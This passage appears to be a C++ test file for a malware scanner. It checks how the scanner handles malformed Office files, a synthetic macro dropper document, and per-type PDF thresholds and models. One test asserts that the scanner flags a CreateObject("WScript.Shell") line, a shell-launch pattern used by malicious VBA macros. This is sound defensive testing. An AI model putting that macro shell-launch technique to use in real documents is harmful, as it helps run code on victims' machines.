  bool code_line = false;
  for (const auto& [k, v] : r.members[0].context) code_line |= k.rfind("download vba:Module1:", 0) == 0;
  EXPECT_TRUE(code_line);
}

// Broken compound files: every one gets a verdict (scored by the shipped model) and anomalies, never a crash.
TEST(OfficeHandler, TruncatedCyclicAndOversizedStructures) {
  auto eng = office_scanner();
  if (!eng) GTEST_SKIP() << "models/office not present";
  CfbLayout L;
  const auto good = build_word_doc(dropper_spec(), &L);
  std::vector<std::vector<std::uint8_t>> cases;
  cases.push_back(std::vector<std::uint8_t>(good.begin(), good.begin() + static_cast<std::ptrdiff_t>(good.size() / 2)));
  {
    auto b = good;  // a FAT chain that loops back on itself
    const std::uint32_t s0 = L.start_sector.at("WordDocument");
    put_u32(b, L.fat_entry_offset(s0 + 2), s0);
    cases.push_back(b);
  }
  {
    auto b = good;  // a stream claiming far more than the file holds
    put_u32(b, L.dir_entry_offset(L.entry_index.at("WordDocument")) + 120, 0x7FFFFFF0);
    cases.push_back(b);
  }
  {
    auto b = good;  // a directory tree whose sibling points back at itself
    const auto idx = L.entry_index.at("1Table");
    put_u32(b, L.dir_entry_offset(idx) + 68, idx);
    cases.push_back(b);
  }
  for (std::size_t i = 0; i < cases.size(); ++i) {
    const auto r = eng->scan_bytes(ByteView(cases[i].data(), cases[i].size()), "case" + std::to_string(i) + ".doc");
    EXPECT_TRUE(r.verdict == engine::Verdict::clean || r.verdict == engine::Verdict::suspicious ||
                r.verdict == engine::Verdict::malicious)
        << i << " " << engine::verdict_name(r.verdict);
    EXPECT_TRUE(r.score.has_value()) << i;
    EXPECT_FALSE(r.anomalies.empty()) << i;
  }
}

TEST(OfficeHandler, MacroDocumentIsExplained) {
  auto eng = office_scanner();
  if (!eng) GTEST_SKIP() << "models/office not present";
  const auto doc = build_word_doc(dropper_spec());
  const auto r = eng->scan_bytes(ByteView(doc.data(), doc.size()), "dropper.doc");
  ASSERT_TRUE(r.score.has_value());
  EXPECT_EQ(r.model, "mamori-office");
  // The model decides the verdict; what must hold whatever model ships is that the dropper scores above the same
  // document without its macros.
  CfbSpec plain;
  plain.streams.push_back({"WordDocument", std::vector<std::uint8_t>(5000, 0)});
  plain.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
  const auto clean_doc = build_cfb(plain);
  const auto c = eng->scan_bytes(ByteView(clean_doc.data(), clean_doc.size()), "plain.doc");
  ASSERT_TRUE(c.score.has_value());
  EXPECT_GT(*r.score, *c.score);
  EXPECT_FALSE(r.reasons.empty());
  bool line = false;
  for (const auto& [k, v] : r.context) line |= v.find("CreateObject(\"WScript.Shell\")") != std::string::npos;
  EXPECT_TRUE(line);
}

TEST(OfficeFeatures, SchemaDocIsGenerated) {
  std::ifstream in(std::string(MAMORI_SOURCE_DIR) + "/docs/office-features.md");
  std::stringstream ss;
  ss << in.rdbuf();
  EXPECT_EQ(ss.str(), features::office_schema_markdown())
      << "regenerate with: build/mamori features --kind office --markdown > docs/office-features.md";
}

TEST(OfficeFeatures, GarbageNeverThrows) {
  std::vector<std::uint8_t> b = bytes_of("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
  b.resize(600, 0xFF);
  auto s = featurize(b);
  EXPECT_EQ(s.x.size(), features::office_schema().features.size());
  EXPECT_FALSE(s.anomalies.empty());
  const auto z = bytes_of("PK\x03\x04 not really a zip [Content_Types].xml word/");
  s = featurize(z);
  EXPECT_EQ(s.x.size(), features::office_schema().features.size());
}

}  // namespace

namespace {
// A PDF and a Word document with nothing in them: the models leave both clean, so a verdict that changes comes from
// the thresholds or the model a test sets up.
const std::string kPlainPdf =
    "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
    "endobj\nxref\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n";

std::vector<std::uint8_t> plain_word_document() {
  CfbSpec plain;
  plain.streams.push_back({"WordDocument", std::vector<std::uint8_t>(5000, 0)});
  plain.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
  return build_cfb(plain);
}
}  // namespace

// meta.json's type_thresholds reach the verdict: the shipped model with a PDF threshold of its own. A plain PDF that
// the model's threshold leaves clean is malicious at a PDF threshold of 0 and suspicious at 1 / 0 (malicious /
// suspicious), while a Word document, of another type, keeps the verdict it had.
TEST(OfficeHandler, TypeThresholdsApplyToTheirTypeOnly) {
  namespace fs = std::filesystem;
  const fs::path shipped = fs::path(MAMORI_SOURCE_DIR) / "models" / "office";
  if (!fs::exists(shipped / "meta.json")) GTEST_SKIP() << "models/office not present";
  const fs::path dir = fs::temp_directory_path() / ("mamori-typethr-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  fs::copy_file(shipped / "model.json", dir / "model.json", fs::copy_options::overwrite_existing);
  nlohmann::json meta;
  std::ifstream(shipped / "meta.json") >> meta;
  meta.erase("type_thresholds");
  const std::string pdf = kPlainPdf;
  const auto doc = plain_word_document();
  auto scan = [&](const nlohmann::json& types) {
    auto m = meta;
    if (!types.is_null()) m["type_thresholds"] = types;
    std::ofstream(dir / "meta.json") << m.dump();
    auto office = model::Model::load(dir.string(), features::office_schema());
    EXPECT_TRUE(office.ok()) << office.error().message;
    engine::Models models;
    models.office = std::move(office).value();
    engine::Scanner s(std::move(models), engine::Options{});
    return std::make_pair(s.scan_bytes(ByteView(reinterpret_cast<const std::uint8_t*>(pdf.data()), pdf.size()), "a.pdf"),
                          s.scan_bytes(ByteView(doc.data(), doc.size()), "a.doc"));
  };
  const auto [p0, d0] = scan(nullptr);
  ASSERT_TRUE(p0.score.has_value());
  ASSERT_EQ(p0.verdict, engine::Verdict::clean) << *p0.score;  // the premise: the model's threshold leaves it clean
  const auto [p1, d1] = scan({{"pdf", {{"threshold", 0.0}, {"suspicious_threshold", 0.0}}}});
  EXPECT_EQ(p1.verdict, engine::Verdict::malicious);
  EXPECT_EQ(p1.signature, "Mamori.PDF.Malicious");
  EXPECT_EQ(d1.verdict, d0.verdict);
  const auto [p2, d2] = scan({{"pdf", {{"threshold", 1.0}, {"suspicious_threshold", 0.0}}}});
  EXPECT_EQ(p2.verdict, engine::Verdict::suspicious);
  EXPECT_EQ(d2.verdict, d0.verdict);
  // A type the model does not name ("rtf") changes nothing.
  const auto [p3, d3] = scan({{"rtf", {{"threshold", 0.0}}}});
  EXPECT_EQ(p3.verdict, engine::Verdict::clean);
  EXPECT_EQ(d3.verdict, d0.verdict);
  fs::remove_all(dir);
}

// A models/pdf folder scores PDFs in place of models/office, and only PDFs: here a copy of the document model whose
// threshold is 0 makes a plain PDF malicious under its own name, while a Word document keeps the document model's
// verdict. A pdf folder that does not load stops the engine rather than scoring PDFs with the wrong model.
TEST(OfficeHandler, PdfModelScoresPdfsOnly) {
  namespace fs = std::filesystem;
  const fs::path shipped = fs::path(MAMORI_SOURCE_DIR) / "models";
  if (!fs::exists(shipped / "office" / "meta.json") || !fs::exists(shipped / "pe" / "meta.json"))
    GTEST_SKIP() << "models not present";
  const fs::path root = fs::temp_directory_path() / ("mamori-pdfmodel-" + std::to_string(::getpid()));
  fs::remove_all(root);
  for (const char* sub : {"pe", "office", "pdf"}) {
    fs::create_directories(root / sub);
    const char* from = std::string(sub) == "pe" ? "pe" : "office";
    for (const char* f : {"model.json", "meta.json"}) fs::copy_file(shipped / from / f, root / sub / f);
  }
  nlohmann::json meta;
  std::ifstream(shipped / "office" / "meta.json") >> meta;
  meta.erase("type_thresholds");
  meta["name"] = "pdf-test";
  meta["threshold"] = 0.0;
  meta["suspicious_threshold"] = 0.0;
  std::ofstream(root / "pdf" / "meta.json") << meta.dump();

  const std::string pdf = kPlainPdf;
  const auto doc = plain_word_document();
  auto scan_both = [&](engine::Models models) {
    engine::Scanner s(std::move(models), engine::Options{});
    return std::make_pair(s.scan_bytes(ByteView(reinterpret_cast<const std::uint8_t*>(pdf.data()), pdf.size()), "a.pdf"),
                          s.scan_bytes(ByteView(doc.data(), doc.size()), "a.doc"));
  };
  auto with_pdf = engine::load_models(root.string());
  ASSERT_TRUE(with_pdf.ok()) << with_pdf.error().message;
  ASSERT_TRUE(with_pdf->pdf.has_value());
  const auto [p1, d1] = scan_both(std::move(with_pdf).value());
  fs::remove_all(root / "pdf");
  auto without = engine::load_models(root.string());
  ASSERT_TRUE(without.ok());
  EXPECT_FALSE(without->pdf.has_value());
  const auto [p0, d0] = scan_both(std::move(without).value());

  ASSERT_EQ(p0.verdict, engine::Verdict::clean);  // the premise: the document model leaves the PDF clean
  EXPECT_EQ(p1.verdict, engine::Verdict::malicious);
  EXPECT_EQ(p1.model, "pdf-test");
  EXPECT_EQ(p1.signature, "Mamori.PDF.Malicious");
  EXPECT_EQ(d1.verdict, d0.verdict);
  EXPECT_EQ(d1.model, d0.model);
  EXPECT_NE(d1.model, "pdf-test");

  fs::create_directories(root / "pdf");
  std::ofstream(root / "pdf" / "meta.json") << "{\"schema_version\": 1}";
  EXPECT_FALSE(engine::load_models(root.string()).ok());
  fs::remove_all(root);
}
